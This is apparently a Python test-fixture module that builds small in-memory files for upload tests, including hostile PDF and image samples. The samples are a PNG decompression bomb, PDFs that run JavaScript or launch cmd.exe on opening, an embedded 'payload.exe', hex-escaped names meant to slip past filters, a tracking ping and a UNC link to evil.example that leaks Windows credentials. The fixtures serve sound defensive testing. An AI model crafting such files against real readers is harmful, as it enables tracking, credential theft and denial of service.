"""Small real files made in memory for the tests."""

from __future__ import annotations

import io


def png_bytes(size=(64, 48), color=(200, 30, 30)) -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", size, color).save(buf, "PNG")
    return buf.getvalue()


def jpeg_bytes(size=(64, 48), color=(30, 120, 200)) -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", size, color).save(buf, "JPEG", quality=85)
    return buf.getvalue()


def minimal_pdf(text: str = "推荐表") -> bytes:
    """A one-page PDF written with pypdf (no JavaScript, no embedded files)."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_metadata({"/Title": text})
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


# --- attachment tests: hostile and edge-case files ---------------------------


def png_bomb(width: int = 20000, height: int = 20000) -> bytes:
    """A valid 1-bit grayscale PNG of ``width``×``height`` that is tiny on disk.

    Written chunk by chunk with a streaming compressor, so the pixels are
    never held in memory.
    """
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit gray
    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte + packed pixels
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row) for _ in range(height)]
    parts.append(compressor.flush())
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", b"".join(parts))
        + chunk(b"IEND", b"")
    )


def jpeg_with_orientation(size=(1200, 800), orientation: int = 6) -> bytes:
    """A JPEG whose EXIF says to rotate it (6: 90° clockwise, so it displays portrait)."""
    from PIL import Image

    exif = Image.Exif()
    exif[0x0112] = orientation
    buf = io.BytesIO()
    Image.new("RGB", size, (10, 160, 90)).save(buf, "JPEG", quality=80, exif=exif)
    return buf.getvalue()


def mp4_bytes(
    padding: int = 0, brand: bytes = b"isom", *, seconds: float = 10.0, sound_seconds: float | None = None
) -> bytes:
    """A structurally valid MP4 of ``seconds`` (no ffmpeg on these machines, so built box by box).

    ftyp; a moov with the movie header (mvhd: timescale 1000, the duration), a
    video track (tkhd, mdia with mdhd and an hdlr ``vide``) and, with
    ``sound_seconds``, a sound track (hdlr ``soun``) of that length; an mdat
    of ``padding`` bytes. mutagen reads the sound track's duration when there
    is one, else the movie header's.
    """
    import struct

    def box(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", 8 + len(body)) + kind + body

    def full(kind: bytes, body: bytes) -> bytes:  # version 0, no flags
        return box(kind, b"\x00\x00\x00\x00" + body)

    scale = 1000
    identity = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)

    def track(number: int, handler: bytes, duration: float) -> bytes:
        ticks = round(duration * scale)
        tkhd = full(
            b"tkhd",
            struct.pack(">IIIII", 0, 0, number, 0, ticks) + b"\x00" * 8
            + struct.pack(">hhhH", 0, 0, 0x100 if handler == b"soun" else 0, 0)
            + identity + struct.pack(">II", 0 if handler == b"soun" else 320 << 16, 0 if handler == b"soun" else 240 << 16),
        )
        mdhd = full(b"mdhd", struct.pack(">IIIIHH", 0, 0, scale, ticks, 0x55C4, 0))  # language "und"
        hdlr = full(b"hdlr", b"\x00" * 4 + handler + b"\x00" * 12 + b"track\x00")
        return box(b"trak", tkhd + box(b"mdia", mdhd + hdlr))

    ftyp = box(b"ftyp", brand + b"\x00\x00\x02\x00" + b"isomiso2avc1mp41")
    longest = max(seconds, sound_seconds or 0)  # the movie lasts as long as its longest track
    mvhd = full(
        b"mvhd",
        struct.pack(">IIII", 0, 0, scale, round(longest * scale))
        + struct.pack(">IH", 0x10000, 0x100) + b"\x00" * 10 + identity + b"\x00" * 24
        + struct.pack(">I", 3),
    )
    tracks = track(1, b"vide", seconds)
    if sound_seconds is not None:
        tracks += track(2, b"soun", sound_seconds)
    return ftyp + box(b"moov", mvhd + tracks) + box(b"mdat", b"\x00" * padding)


def mp4_file(path, size: int) -> None:
    """A sparse MP4 of ``size`` bytes on disk (valid boxes, the mdat a hole): fast to make."""
    import struct

    head = mp4_bytes()
    mdat_size = size - len(head) + 8  # replaces the empty mdat at the end
    head = head[:-8] + struct.pack(">I", mdat_size) + b"mdat"
    with open(path, "wb") as fh:
        fh.write(head)
        fh.truncate(size)


def pdf_with(mutate) -> bytes:
    """A one-page pypdf PDF after ``mutate(writer)``."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    mutate(writer)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def pdf_open_action_js() -> bytes:
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    def mutate(writer):
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('hi');"),
            }
        )

    return pdf_with(mutate)


def pdf_names_js() -> bytes:
    """Document-level JavaScript in the catalog's /Names tree."""
    from pypdf.actions import JavaScript

    return pdf_with(lambda writer: writer.add_open_action(JavaScript("app.alert(1);")))


def pdf_launch() -> bytes:
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    def mutate(writer):
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {
                NameObject("/S"): NameObject("/Launch"),
                NameObject("/F"): TextStringObject("cmd.exe"),
            }
        )

    return pdf_with(mutate)


def pdf_embedded_file() -> bytes:
    return pdf_with(lambda writer: writer.add_attachment("payload.exe", b"MZ\x90\x00"))


def pdf_encrypted() -> bytes:
    return pdf_with(lambda writer: writer.encrypt("secret", algorithm="RC4-128"))


def raw_pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A hand-written PDF with a correct xref table: ``objects[i]`` is object ``i + 1``."""
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref))
    return out.getvalue()


def pdf_hex_escaped_js() -> bytes:
    """/OpenAction << /S /J#61vaScript /#4A#53 (...) >>: the names spelt with #xx escapes."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /#4A#53 (app.alert(1)) >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def pdf_page_aa() -> bytes:
    """A page with an /AA (additional actions) entry that runs on page open."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>",
            b"<< /S /URI /URI (https://example.org/) >>",
        ]
    )


def pdf_plain_raw() -> bytes:
    """A clean hand-written PDF (an /OpenAction that only sets the view is fine)."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def multipart(fields: dict[str, str], file_field: str, filename: str, content: bytes,
              content_type: str = "application/octet-stream") -> tuple[bytes, str]:
    """A multipart/form-data body written by hand, so the file name reaches the
    server exactly as given (Django's test client would strip directories)."""
    boundary = "----xlf-test-boundary-7f3a"
    lines = []
    for name, value in fields.items():
        lines.append(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        )
    lines.append(
        (
            f"--{boundary}\r\nContent-Disposition: form-data; name=\"{file_field}\"; "
            f"filename=\"{filename}\"\r\nContent-Type: {content_type}\r\n\r\n"
        ).encode()
        + content
        + b"\r\n"
    )
    lines.append(f"--{boundary}--\r\n".encode())
    return b"".join(lines), f"multipart/form-data; boundary={boundary}"


# --- issue 11: links out and actions on opening ---------------------------------


def pdf_open_action_uri() -> bytes:
    """Opening the file sends the reader's browser to a URL (a tracking ping)."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (https://evil.example/ping) >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def pdf_link_uri() -> bytes:
    """A link annotation to a URL on the page."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://evil.example/) >> >>",
        ]
    )


def pdf_gotor() -> bytes:
    """A link to a remote file (\\\\host\\share: Windows would send its credentials)."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (\\\\\\\\evil.example\\\\s\\\\x.pdf) /D [0 /Fit] >> >>",
        ]
    )


def pdf_hex_escaped_open_action() -> bytes:
    """/Open#41ction << /S /#55RI ... >>: the names spelt with #xx escapes."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Open#41ction << /S /#55RI /#55#52#49 (https://evil.example/) >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def pdf_indirect_open_action() -> bytes:
    """An /OpenAction that points to an action object (any action runs on opening)."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
            b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /Print >> >>",
        ]
    )
